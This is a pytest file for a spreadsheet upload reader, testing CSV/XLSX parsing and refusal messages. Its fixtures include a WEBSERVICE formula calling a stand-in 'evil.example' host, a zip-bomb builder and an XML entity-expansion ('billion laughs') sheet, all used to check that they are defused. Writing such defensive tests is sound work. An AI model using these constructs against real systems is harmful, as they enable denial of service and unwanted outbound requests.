"""Files that people choose are read for what they say, and refused with a sentence for what they are."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Sequence

import openpyxl
import pytest

from config import sheets
from config.sheets import Unreadable, read

KNOWN = ("name", "note")
TABLE = "name,note\nNorthwind,Straße\n"


def xlsx(*rows: Sequence[object]) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def cells(content: bytes) -> list[dict[str, str]]:
    return [line.cells for line in read(content, KNOWN).lines]


@pytest.mark.parametrize(
    "content",
    [
        TABLE.encode(),
        TABLE.encode("utf-8-sig"),
        TABLE.encode("utf-16"),
        TABLE.replace(",", ";").replace("\n", "\r\n").encode("utf-8-sig"),
        TABLE.replace(",", "\t").encode(),
        b"Note,NAME\nStra\xc3\x9fe,Northwind\n",
        xlsx(KNOWN, ("Northwind", "Straße")),
    ],
    ids=["utf-8", "mark", "utf-16", "semicolons", "tabs", "other order", "xlsx"],
)
def test_what_spreadsheets_save_is_understood(content: bytes) -> None:
    assert cells(content) == [{"name": "Northwind", "note": "Straße"}]


def test_lines_are_numbered_as_a_spreadsheet_counts_them_and_empty_ones_are_nothing() -> None:
    found = read(b'name,note\n"A","two\nlines"\n\n,\nB,\n', KNOWN)
    assert [(line.number, line.cells["name"]) for line in found.lines] == [(2, "A"), (6, "B")]
    found = read(xlsx(KNOWN, ("A",), (), ("B",)), KNOWN)
    assert [(line.number, line.cells["name"]) for line in found.lines] == [(2, "A"), (4, "B")]


def test_a_formula_is_nothing_but_the_value_that_was_last_computed() -> None:
    assert cells(xlsx(KNOWN, ("A", '=WEBSERVICE("https://evil.example")'))) == [{"name": "A", "note": ""}]
    assert cells(b"name,note\nA,=1+1\n") == [{"name": "A", "note": "=1+1"}]


def test_numbers_and_days_are_read_as_they_would_be_typed() -> None:
    import datetime as dt

    assert cells(xlsx(KNOWN, (4.0, dt.datetime(2026, 12, 25)))) == [{"name": "4", "note": "2026-12-25"}]  # noqa: DTZ001
    assert cells(xlsx(KNOWN, (True, dt.time(9)))) == [{"name": "yes", "note": "09:00"}]


def bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("xl/worksheets/sheet1.xml", b"0" * (sheets.MOST_UNPACKED + 1))
    return out.getvalue()


def laughing() -> bytes:
    """Entities that would grow without end, in the place of the first sheet."""
    out, plain = io.BytesIO(), zipfile.ZipFile(io.BytesIO(xlsx(KNOWN, ("A", "B"))))
    with zipfile.ZipFile(out, "w") as packed:
        for part in plain.namelist():
            content = plain.read(part)
            if part.endswith("sheet1.xml"):
                entities = b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
                content = content.replace(b"<worksheet", entities + b"<worksheet", 1)
            packed.writestr(part, content)
    return out.getvalue()


@pytest.mark.parametrize(
    ("content", "sentence"),
    [
        (b"", "The first line must name the columns, for example: name, note"),
        (b"name,note\n", "nothing below the first line"),
        (b"colour\nred\n", "must name the columns"),
        (b"name,colour\nA,red\n", "no column “colour” here"),
        (b"name,name\nA,B\n", "“name” is there twice"),
        (b"name\nA,B\n", "Line 2 has more cells"),
        (b'name,note\n"A,B\n', "quotation mark"),
        ("name\nStraße\n".encode("cp1252"), "CSV UTF-8"),
        (b"name\n" + b"a" * (sheets.LONGEST_CELL + 1), "more than 25000 characters"),
        (b"name\n" + b"a\n" * (sheets.MOST_ROWS + 1), "more than 2000 lines"),
        (b"name\n" + b"a" * sheets.MOST_BYTES, "more than 1500000 bytes"),
        (b"PK\x03\x04 no zip", "cannot be read as XLSX"),
        (bomb(), "more than 1500000 bytes"),
        (laughing(), "cannot be read as XLSX"),
        (b"name\nA\x00B\n", ""),
    ],
)  # fmt: skip
def test_what_cannot_be_taken_is_refused_with_a_sentence(content: bytes, sentence: str) -> None:
    if not sentence:
        assert cells(content)[0]["name"] == "A\x00B"  # the models refuse it, by line and column
        return
    with pytest.raises(Unreadable) as refused:
        read(content, KNOWN)
    assert sentence in refused.value.messages[0]
